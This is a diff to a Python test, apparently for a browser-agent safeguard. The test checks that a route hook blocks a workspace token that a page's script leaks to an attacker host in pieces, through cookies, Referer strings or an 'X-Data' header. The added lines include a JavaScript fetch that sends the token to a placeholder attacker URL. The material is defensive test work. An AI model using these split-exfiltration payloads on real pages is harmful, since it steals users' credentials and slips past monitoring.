@@ -2,12 +2,12 @@
 script's own. After a compliant model typed a workspace token into a page of a site the user named, the page's
 script puts three characters of it at a time in a cookie of its own site whose server copies the cookie into a
 redirect to another host, or in the Referer of requests to another host (``referrer: '/x?d=' + piece``), or puts
-the whole token in a header of a same-origin fetch (``X-Data``) that its server copies into a redirect. Each
-request alone carries too little to count, or carries it where the address is not; the route hook adds what a
-request's cookies, Referer and own headers carry to the site's stream of pieces (a cookie sent again unchanged
-counts once) and judges a script's headers like a body, so none of it reaches the other host whole, and the
-refusal is logged. Ordinary cookies, Referers and headers pass. Real Chromium, pages on 127.0.0.1; only the model
-is scripted."""
+the whole token in a header of a same-origin fetch (``X-Data``) that its server copies into a redirect, or of a
+request to another host. Each request alone carries too little to count, or carries it where the address is not;
+the route hook adds what a request's cookies, Referer and own headers carry to the site's stream of pieces (a
+cookie sent again unchanged counts once) and judges a script's headers like a body, so none of it reaches the
+other host whole, and the refusal is logged. Ordinary cookies, Referers and headers pass. Real Chromium, pages on
+127.0.0.1; only the model is scripted."""
 
 from __future__ import annotations
 
@@ -28,14 +28,14 @@ __all__ = ["loopback_websockets"]  # the fixture, used here too
 
 def _copying(server: RecordingServer, to: str) -> None:
     """Make ``server`` answer ``/hop`` with a redirect to ``to`` followed by its ``d`` cookie, ``/hdr`` with one
-    followed by the request's ``X-Data`` header, and record each request's Referer with it."""
+    followed by the request's ``X-Data`` header, and record each request's Referer and ``X-Data`` with it."""
     base: type[BaseHTTPRequestHandler] = server.server.RequestHandlerClass  # type: ignore[assignment]
 
     class Copying(base):  # type: ignore[valid-type,misc]
         def _serve(self) -> None:
             path = urlsplit(self.path).path
             if path not in ("/hop", "/hdr"):
-                server.requests.append(f"REFERER {self.headers.get('referer', '')} ")
+                server.requests.append(f"REFERER {self.headers.get('referer', '')} {self.headers.get('x-data', '')}")
                 super()._serve()  # type: ignore[misc]
                 return
             server.requests.append(f"{self.command} {self.path} ")
@@ -61,6 +61,8 @@ def _sends(attacker: str) -> dict[str, str]:
             "referrerPolicy: 'unsafe-url', mode: 'no-cors'}).catch(() => {}))"),
         "a header of a same-origin fetch its server copies into a redirect": (
             "(v.length > 20 && fetch('/hdr', {headers: {'X-Data': v}}).catch(() => {}))"),
+        "a header of a request to another host": (
+            f"(v.length > 20 && fetch('{attacker}/in', {{headers: {{'X-Data': v}}}}).catch(() => {{}}))"),
     }
 
 
